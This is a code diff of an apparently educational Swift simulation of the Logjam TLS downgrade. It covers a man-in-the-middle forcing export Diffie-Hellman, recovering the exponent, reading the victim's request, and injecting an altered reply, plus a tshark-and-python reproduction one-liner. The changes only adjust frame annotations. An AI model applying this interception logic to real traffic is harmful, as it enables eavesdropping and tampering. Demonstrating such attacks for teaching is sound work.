@@ -80,13 +80,13 @@ package enum Logjam: Exhibit {
         outcome.reached = !fraud.request.isEmpty
         guard outcome.reached else {
             outcome.say(
-                LogjamNote.refused(fraud.refusal?.description ?? ""), frames: [attacker.frame(.victim)], on: .victim,
+                LogjamNote.refused(fraud.refusal?.description ?? ""), frames: attacker.sighted(on: .victim), on: .victim,
                 cite: .rfc(9325, "4.5"))
             return outcome
         }
         outcome.loot = [("exponent", fraud.exponent), ("request", fraud.request)]
         outcome.truth = [("request", request)]
-        outcome.say(LogjamNote.reads(octets: fraud.request.count), frames: [attacker.frame(.victim)], on: .victim)
+        outcome.say(LogjamNote.reads(octets: fraud.request.count), frames: fraud.frames, on: .victim)
         outcome.reproduce = [
             "tshark -r VICTIM -Y tls.handshake.ys -T fields -e tls.handshake.p -e tls.handshake.g -e tls.handshake.ys | "
                 + "python3 -c 'import sys; p, g, ys = [int(x.replace(\":\", \"\"), 16) for x in sys.stdin.read().split()]; "
@@ -130,6 +130,8 @@ private struct Fraud {
     private(set) var exponent: [UInt8] = []
     private(set) var trials = 0
     private(set) var request: [UInt8] = []
+    /// Where it stands.
+    private(set) var frames: [Int] = []
     private(set) var refusal: AlertDescription?
     private(set) var isOver = false
 
@@ -148,7 +150,7 @@ private struct Fraud {
             if message.type == .serverHello, var hello = try? message.parsed(ServerHello.read) {
                 outcome.say(
                     LogjamNote.answered(CipherSuite.dheRSAExport.description, says: Self.suite.description),
-                    frames: [attacker.frame(.server)], on: .server)
+                    frames: attacker.sighted(message.bytes, on: .server), on: .server)
                 randoms.server = hello.random
                 hello.cipherSuite = Self.suite.codePoint
                 message = hello.message
@@ -191,6 +193,7 @@ private struct Fraud {
             case .content(.changeCipherSpec, _): if let schedule { near.reading.startReading(with: schedule.clientProtection) }
             case .content(.applicationData, let data):
                 request += data
+                frames = attacker.sighted(on: .victim)
                 middle.victim.send(near.write(.applicationData, Money.altered(Money.answer)))
                 middle.victim.send(near.write(.alert, Alert(.warning, .closeNotify).bytes))
                 middle.victim.close()
@@ -213,7 +216,7 @@ private struct Fraud {
         trials += tried
         exponent = Integer(x).bigEndian
         outcome.say(
-            LogjamNote.found(trials: tried), frames: [attacker.frame(.victim)], on: .victim, cite: .rfc(5246, "7.4.3"),
+            LogjamNote.found(trials: tried), frames: attacker.sighted(message.bytes, on: .victim), on: .victim, cite: .rfc(5246, "7.4.3"),
             [.init("dh_Ys", offer.ys), .init("exponent x", exponent)])
         guard
             let group = try? FiniteFieldGroup(
